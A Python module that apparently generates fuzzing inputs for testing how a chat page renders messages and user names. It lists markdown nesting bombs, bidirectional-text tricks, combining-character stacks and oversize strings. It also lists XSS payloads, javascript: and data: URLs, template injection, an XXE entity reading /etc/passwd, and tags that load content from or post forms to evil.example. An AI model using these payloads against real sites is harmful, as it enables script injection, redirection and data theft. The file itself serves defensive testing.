"""What somebody might write to break a page or run something in it: messages of up to 4,000 characters, and names."""

import unicodedata

MESSAGE_MAX = 4000
NAME_MAX = 40
COLUMN = 16  # code points: every block of Unicode begins at a multiple of it
# In these one character in so many is like all others.
UNIFORM = {"CJK": 512, "HANGUL SYLLABLE": 512, "TANGUT": 512, "CUNEIFORM": 64, "EGYPTIAN": 128, "ANATOLIAN": 64}
PRIVATE = 8192


def _step(point: int) -> int:
    """How many code points further the next sample is taken."""
    character = chr(point)
    if unicodedata.category(character) == "Co":
        return PRIVATE
    name = unicodedata.name(character, "")
    return next((step for beginning, step in UNIFORM.items() if name.startswith(beginning)), COLUMN)


def samples_of_unicode() -> list[str]:
    """One character or more of every block, in the order of their code points."""
    samples = []
    point = 0
    while point <= 0x10FFFF:
        character = chr(point)
        if unicodedata.category(character) in ("Cn", "Cs"):
            point += 1
            continue
        samples.append(character)
        point += _step(point) - point % min(_step(point), COLUMN)
    return samples


def _in_pieces(characters: list[str], length: int) -> list[str]:
    return ["".join(characters[start : start + length]) for start in range(0, len(characters), length)]


MARKS = ["**", "*", "_", "`", "```", "~~", "> ", "# ", "[x](", "||"]
NESTED = [
    "".join(mark * 10 for mark in MARKS) + "deep" + "".join(mark * 10 for mark in reversed(MARKS)),
    "**_" * 10 + "deep" + "_**" * 10,
    "*" * 2000,
    "_" * 2000,
    "`" * 2000,
    "```\n" * 900,
    "**a" * 1300,
    "*a* " * 1000,
    "`a` " * 1000,
    "((((" * 500 + "https://example.org/" + "))))" * 500,
    "- " * 10 + "list",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript:alert(1)//https://example.org",
    "https://example.org/javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "blob:https://example.org/1",
    "view-source:https://example.org",
    "//example.org\\@javascript:alert(1)",
    "http://example.org:javascript@evil.example/",
    "https://exаmple.org/ https://xn--exmple-4nf.org/",
    "https://example.org/\u202egpj.exe",
    "https://" + "a" * 3900,
    "https://example.org/?" + "%" * 3000,
]
LINKS = [
    *SCHEMES,
    *(f"[click]({scheme})" for scheme in SCHEMES[:6]),
    *(f"<{scheme}>" for scheme in SCHEMES[:6]),
    *(f"**{scheme}** `{scheme}`" for scheme in SCHEMES[:4]),
]
ELEMENTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script><!--",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><slot onslotchange=alert(1)></template>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none!important}@import 'https://evil.example/'</style>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken>",
    "</textarea></template></title></noscript></div></main></body></html>",
    "\"'><details open ontoggle=alert(1)>",
    "`${alert(1)}` {{constructor.constructor('alert(1)')()}} {% debug %} #{7*7} <%= 7*7 %>",
    '{"__proto__": {"polluted": 1}} __proto__ constructor toString',
    "]]><x/> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
]
DIRECTIONS = [
    "\u202e" * 200 + "reversed",
    "\u202d\u202e\u2066\u2067\u2068" * 100 + "x",
    "\u2069\u202c" * 500 + "unbalanced",
    "\u200f\u061cعربي \u202eabc\u202c \u2067def\u2069 123",
    "file\u202egpj.exe",
    "שלום " * 300,
    "\u200e\u200f" * 1000 + ".",
]
STACKS = [
    "a" + "\u0301" * 200,
    ("a" + "\u0300\u0316\u0334\u0489\u20dd" * 40 + " ") * 15,
    "\u0e49" * 500,
    "ก" + "\u0e47" * 400,
    "\u0f68" + "\u0f71\u0f80\u0fad" * 150,
    "\u0aa4" + "\u0abc" * 400,
    "\u1ab0\u1dc0\u20d0\ufe20" * 200,
    "\U00016fe4\U0001e131\u3099" * 100,
    "😀" + "\u200d😀" * 400,
    "👍" + "🏿" * 500,
    "🏴" + "\U000e0067" * 500 + "\U000e007f",
    "\u20e3\ufe0f" * 500,
]
SIZES = [
    "W" * MESSAGE_MAX,
    "﷽" * MESSAGE_MAX,
    "𒈙" * MESSAGE_MAX,
    "꧅" * 1000,
    "\u2003" * 1000 + "x" + "\u3000" * 1000 + "y",
    "a\n" * 1999 + "a",
    "\u2028\u2029\x0b\x0c\x85" * 300 + "x",
    "\u00ad\u200b\u2060\ufeff" * 900 + "x",
    "\t" * 2000 + "x",
    "한" * MESSAGE_MAX,
    "\u1100" * 1000 + "\u1161" * 1000,
    "0" * 2000 + "." + "0" * 1999,
]
MENTIONS = [
    "@a " * 1000,
    "@小黄鸭" * 1000,
    "@" * MESSAGE_MAX,
    "@<b>x</b> " * 300,
    "@\u202eevil " * 300,
    "@Anonymous#0000 " * 200,
]

MESSAGES = [
    *(text[:MESSAGE_MAX] for text in [*NESTED, *LINKS, *ELEMENTS, *DIRECTIONS, *STACKS, *SIZES, *MENTIONS]),
    *_in_pieces(samples_of_unicode(), 200),
]
NAMES = [
    *(text[:NAME_MAX] for text in [*NESTED, *LINKS, *ELEMENTS, *DIRECTIONS, *STACKS, *SIZES, *MENTIONS]),
    *_in_pieces(samples_of_unicode(), NAME_MAX),
]
